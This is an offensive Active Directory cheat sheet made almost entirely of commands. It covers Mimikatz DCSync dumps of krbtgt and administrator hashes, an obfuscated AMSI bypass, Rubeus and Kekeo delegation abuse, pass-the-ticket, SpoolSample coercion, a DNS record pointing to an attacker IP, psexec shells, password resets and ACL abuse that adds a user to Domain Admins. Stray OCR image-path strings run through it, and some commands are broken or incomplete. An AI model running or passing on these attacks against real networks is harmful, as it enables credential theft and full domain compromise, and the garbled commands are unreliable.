#Run Mimikatz as Domain Admin and run below commandlsadump::dcsync /domain:steins.local /all /csv


Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins.local\krbtgt"'

#use DCSync feature to get krbtgt hash from any machine(Need DA privs):
Invoke-Mimikatz -Command '"lsadump::dcsync /user:DOMAIN_NAME\krbtgt"'

#Downloading DC Hashes without logging as Domain Admin: this command should be run as admin, modifying ac
Set-ADACL -DistinguishedName 'DC=steins,DC=steins,DC=local' -Principal USERNAME -GUIDRight DCSync -Verbose

# Running as a low priv user
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins\krbtgt"'
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins\Administrator"'

Exploiting WriteDacl - DCSync

$SecPassword = ConvertTo-SecureString 'Password123!' -AsPlainText -Force
$Cred = New-Object System.Management.Automation.PSCredential('TESTLAB\dfm.a', $SecPassword)
Add-DomainObjectAcl -Credential $Cred -TargetIdentity testlab.local -Rights DCSync

Once you have granted yourself this privilege, you may use the mimikatz dcsync function to dcsync the password of arbitrary principals on the domain

lsadump::dcsync /domain:testlab.local /user:Administrator

or username:[email protected]

aclpwn -f username -t steins.local --domain steins.local --serverChange User's Password in AD

$UserName = "VICTIM_Username"
$UserPassword = ConvertTo-SecureString 'P@$$W0rd' -AsPlainText -Force
$Domain = "DOMAIN_name"

$SecPassword = ConvertTo-SecureString 'ADMIN_PASSWORD' -AsPlainText-Force
$Cred = New-Object System.Management.Automation.PSCredential('Domain\Admin_Username',$SecPassword)

$ContextArguments = @{ 'Identity' = $UserName }
$ContextArguments['Domain'] = $Domain
$ContextArguments['Credential'] = $Cred
$Context = Get-PrincipalContext @ContextArguments

$User = [System.DirectoryServices.AccountManagement.UserPrincipal]::FindByIdentity($Context.Context, $UserName)
if ($User) {
Write-Verbose "Found user '$UserName'"
try {
$TempCred = New-Object System.Management.Automation.PSCredential('a', $UserPassword)$User.Enabled = $True
$Null = $User.Save()
Write-Verbose "Password for user '$UserName' successfully reset"
catch {
Write-Warning "Error setting password for user '$UserName' : $_"
else {
Write-Warning "Unable to find user '$UserName'"

Un-Constrained DelegationIgnore Domain controllers as in the unconstrained delegation enabled machines

#Find systems with UnConstrained Delegation
Get-ADComputer -Filter {TrustedForDelegation -eq $True}
Get-ADUser -Filter {TrustedForDelegation -eq $True}

Get-NetComputer -UnConstrained

#Get the hashes of the Unconstrained_user to login as the user.

#start powershell cmd
Invoke-Mimikatz -Command '"sekurlsa:pth /user:Unconstrained_user /domain:steins.local /ntlm:<NTLM_HASH> /run:powershell.exe"'#check if this user has local admin access on any machine

#Login to the machine on which unconstrained-account has local admin access

$sess = New-PSSession -ComputerName unconstained_machine.steins.local

#Bypass AMSI
sET-ItEM ( 'V'+'aR' + 'IA' + 'blE:1q2' + 'uZx' ) ( [TYpE]( "{1}{0}"-F'F','rE' ) ) ; ( GeT-VariaBle ( "1Q2U" +"zX" ) -VaL )."A`ss`Embly"."GET`TY`Pe"(( "{6}{3}{1}{4}{2}{0}{5}" -f'Util','A','Amsi','.Management.','utomation.','s','System' ) )."g`etf`iElD"( ( "{0}{2}{1}" -f'amsi','d','InitFaile' ),( "{2}{4}{0}{1}{3}" -f 'Stat','i','NonPubli','c','c,' ))."sE`T`VaLUE"( ${n`ULl},${t`RuE} )

#Run Mimikatz on the target
Invoke-Command -FilePath C:\downloads\Invoke-Mimikatz.ps1 -Session $sess

#Downloads all the tickets from the lsass and saves them on the disk
Invoke-Mimikatz -Command '"sekurlsa::tickets /export"'

#use the downloaded ticket and dump it into the memory to access other stuffInvoke-Mimikatz -Command '"kerberos::ppt" KIRBI_TICKET_Path'

Resource Based Constrained Delegation - Lateral Movement

#Import Powermad powershell module
Import-Module .\Powermad.psd1

#adding a machine object, normal domain user can add upto 10 machines to the domain by default.
New-MachineAccount -Domain steins.local -DomainController -MachineAccount might$ -Password (ConvertTo-SecureString 'PASSWORD' -AsPlainText -Force) -Verbose#find a machine to which we have write permission using ACL Scanner/bloodhound

#Adding a role based constrained delegation on Server1. if we have write permission to 'might' machine account, we can access Sever1 as any user in the domain
Set-ADComputer Server1 -PrincipalsAllowedToDelegateToAccount might -Verbose

#view the permission that we set now
Get-ADComputer server -ServerServer1.steins.local -Properties name,msDS-AllowedToActOnBehalfOfOtherIdentity,Principalsallowedtodelegatetoaccount,msds-allowedtodelegateto,trustedtoauthfordelegation

#Inject the ticket
.\Rubeus.exe s4u /user:might$ /rc4:58a478135a93ac3bf058a5ea0e8fdb71 /domain:steins.local /msdsspn:cifs/server1.steins.local /impersonateuser:Administrator /dc:dc.steins.local /ptt

#access the target machine
Enter-PSSession -ComputerName server1.steins.local

RBCD Persistance

-If we have DA permissions, we can use the RACE toolkit ( ) to modify permissions of a computer object and use it later

#Sets RBCS on Server1 - and assign write permissions to server1 using the UserName
Set-DCPermissions -Method RBCD -DistinguishedName 'CN=server1,DC=steins,DC=local' -SAMAccountName USERNAME Verbose#run on attaker machine to allow delegation for 'attacker' machine account
Set-ADComputer -Identify Server1 -PrincipalsAllowedToDelegateToAccount might$ -Verbose

#Inject the ticket
.\Rubeus.exe s4u /user:might$ /rc4:58a478135a93ac3bf058a5ea0e8fdb71 /domain:steins.local /msdsspn:cifs/server1.steins.local /impersonateuser:Administrator /dc:dc.steins.local /ptt

Resource Based Constrained Delegation on MSSQL Server

#Add a DNS Record using
Invoke-DNSUpdate -DNSType A -DNSName might -DNSData KALI_IP -Realm Steins.local

#Login to the MSSQL Server and run xpdritree on the dnsname u just created
SQLCMD -S SERVER04\RE7_MS -Q "exec master.dbo.xp_dirtree '\\might@80\a'" -U Admin -P Admin
#on your Kali box, run
msDS-AllowedToActOnBehalfOfOtherIdentity is added to object SQL_server4$ for object USER
sudo proxychains python steins.local SQL_server4$ USER

#View the privileges of the user Get-ADComputer server -Server steins.local -Properties name,msDS-AllowedToActOnBehalfOfOtherIdentity,Principalsallowedtodelegatetoaccount,msds-allowedtodelegateto,trustedtoauthfordelegation #Get TGT and gain access to the server
proxychains python3 ./ -dc-ip -spn cifs/server.steibslocal -impersonate sql_admin steins.local/sql_user:Password@123

export KRB5CCNAME=sql_admin.ccache;sudo proxychains user/[email protected] -k -no-pass -dc-ip -target-ip


.\Rubeus.exe s4u /user:sql_user /rc4:58a478135a93ac3bf058a5ea0e8fdb71 /domain:steins.local /msdsspn:cifs/server.steins.local /impersonateuser:sql_admin /dc:dc.steins.local /pttdir \\server.steins.local\c$

psexec \\server.steins.local cmd.exe

Abusing UN-Constrained Delegation using SpoolSample

Delegation explained Here - Go through this

#Find un-constrained delagaion=true machines using Powerview
Get-NetComputer -UnConstrained
Get-DomainComputer -UnConstrained

#Find systems with UnConstrained Delegation using AD Module
Get-ADComputer -Filter {TrustedForDelegation -eq $True}
Get-ADUser -Filter {TrustedForDelegation -eq $True}

#Download SpoolSample and compile it and upload it on the server which has delegation=true
SpoolSample.exe TARGET_Server Delegation_enabled_server
Ex: SpoolSample.exe dc.steins.local delegated1.steins.local

#Run rubeus as System on an Interactive window, right after you run spoolsample.exe you should see the target Server's TGT
#use psexec to run as NT Authority/SystemPsexec -s -d -i cmd.exe
Rubeus.exe monitor /interval:1

Note: if you are not seeing the target TGT on the rubeus even after many attemps, create a TGT for the server you have access to and try the target server again.
#Optional - generate a TGT for a server
Rubeus.exe asktgt /user:server1$ /enctype:RC4 /rc4:da71cba0f3b7a64d4318bd52c5ed4237 /domain:steins.local /dc:dc.steins.local /ptt

#Here you have lot of options, generate a TGS for yourself as you got the target's TGT. this can be done using rubeus.
#Copy paste the TGT, remove spaces and decode the base64 TGT and save it into a file.

#Generate a TGS into a file and import it later into memory
Rubeus.exe s4u /ticket:srv1_tgt /impersonateuser:Administrator /outfile:TGS_administrator /domain:steins.local /dc:dc.steins.local

#Importing into memory
Rubeus.exe ptt /ticket:TGS_TICKET
#Create a TGS for file system and import it directly into memory
Rubeus.exe s4u /impersonateuser:administrator /self /ptt /dc:dc.steins.local /ticket:srv1_tgt /altservice:cifs/sever1.steins.local /domain:steins.local

dir \\sever1.steins.local\C$

#gaining a shell
Rubeus.exe s4u /impersonateuser:administrator /self /ptt /dc:dc.steins.local /ticket:srv1_tgt /altservice:HOST/sever1.steins.local /domain:steins.local

psexec.exe \\sever1.steins.local cmd.exe

un-Constrained Delegation Rubeus cheatsheet#List un-Constrained Delegation enabled users - PowerView

Get-DomainUser -ldapfilter "(userAccountControl:1.2.840.113556.1.4.803:=524288)"

#List un-Constrained Delegation enabled Computers -
Get-DomainComputer -Unconstrained

#Obtain a TGT for the Constained allowed user
.\Rubeus.exe asktgt /user:websvc /rc4:cc098f204c5887eaa8253e7c2749156f /outfile:TGT_websvc.kirbi

#Obtain a TGS of the Administrator user to self
.\Rubeus.exe s4u /ticket:TGT_websvc.kirbi /impersonateuser:Administrator /outfile:TGS_administrator

#Obtain service TGS impersonating Administrator (CIFS)
.\Rubeus.exe s4u/ticket:TGT_websvc.kirbi /tgs:[email protected][email protected] /msdsspn:"CIFS/dcorp-mssql.dollarcorp.moneycorp.local" /outfile:TGS_administrator_CIFS

#Impersonate Administrator on different service (HOST)
.\Rubeus.exe s4u /ticket:TGT_websvc.kirbi /tgs:[email protected][email protected] /msdsspn:"CIFS/dcorp-mssql.dollarcorp.moneycorp.local" /altservice:HOST /outfile:TGS_administrator_HOST

#Load ticket in memory
.\Rubeus.exe ptt /ticket:TGS_administrator_CIFS_HOST-dcorp-mssql.dollarcorp.moneycorp.local

Constrained Delegation#find Constrained Delegation enabled. Using PowerView(dev)
Get-DomainUser -TrusedToAuth
Get -DomainComputer -TrusedToAuth

#find Constrained Delegation enabled using Active Directry Module
Get-ADObject -Filter{msDS-AllowedToDelegateTo -ne "$null"} -Properties msDS-AllowedToDelegateTo

#Gain access to the constrained delegation enabled box and get TGT, fill will be saved to disk
kekeo# tgt::ask /user:websvc /domain:steins.local /rc4:NTLM_HASH

#using s4u from Kekeo, We request a TGS and it's saved in the file
#service : services with permissions can only be accessed, see where what can access using admodule/powerview;
tgs::s4u /tgt:Tgt_TICKET_PATH.kirbi /user:[email protected] /service:cifs/server2.steins.local


tgs::s4u /tgt:Tgt_TICKET_PATH.kirbi /user:[email protected] /service:cifs/server2.steins.local|ldap/dc.steins.local#Inject the TGS and gain a shell
Invoke-Mimikatz -command '"kerberos::ptt TGS_PATH.kirbi"'

#using s4u from Kekeo_one (no SNAME validation)
#Here we have accesds to not just the service that we have access to but all the service that uses the same machines account as there is no validation. this way we can run attacklike dcsync without domain admin privileges

#Gain access to the constrained delegation enabled box and get TGT, fill will be saved to disk
kekeo# tgt::ask /user:steins-adminsrv.steins.local /domain:steins.local /rc4:NTLM_HASH

#Get TGS by using the TGT
tgs::s4u /tgt:TGT_TICKET_PATH.kirbi /user:[email protected] /service:time/steins.local | ldap/steins.local

#Inject the TGS and gain a shell, now weshould have access to ldap as administrator

Invoke-Mimikatz -command'"kerberos::ptt TGS_PATH.kirbi"'

#Run DCSync attack
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins.local\krbtgt"'

Abusing ACL - Generic All

Import-Module ./PowerView.ps1

#Find a group with GenericAll Rights & check if we have access to to any of the group via ACL.
Get-DomainGroup -SamAccountName * | ? {($_.ActiveDirectoryRights -match 'GenericAll')}

#View the ACL's of the group
Get-ObjectAcl -ResolveGUIDs | ? {($_.objectdn -eq "CN=Domian Admins,DC=steins,DC=local") -and ($_.ActiveDirectoryRights -match 'GenericAll')}

#if your account has GenericAll Access to the group, we can add ourselves to the group
Add-DomainGroupMember -Identity 'Domain Admins' -Members UserName

#View if you are a part of the group
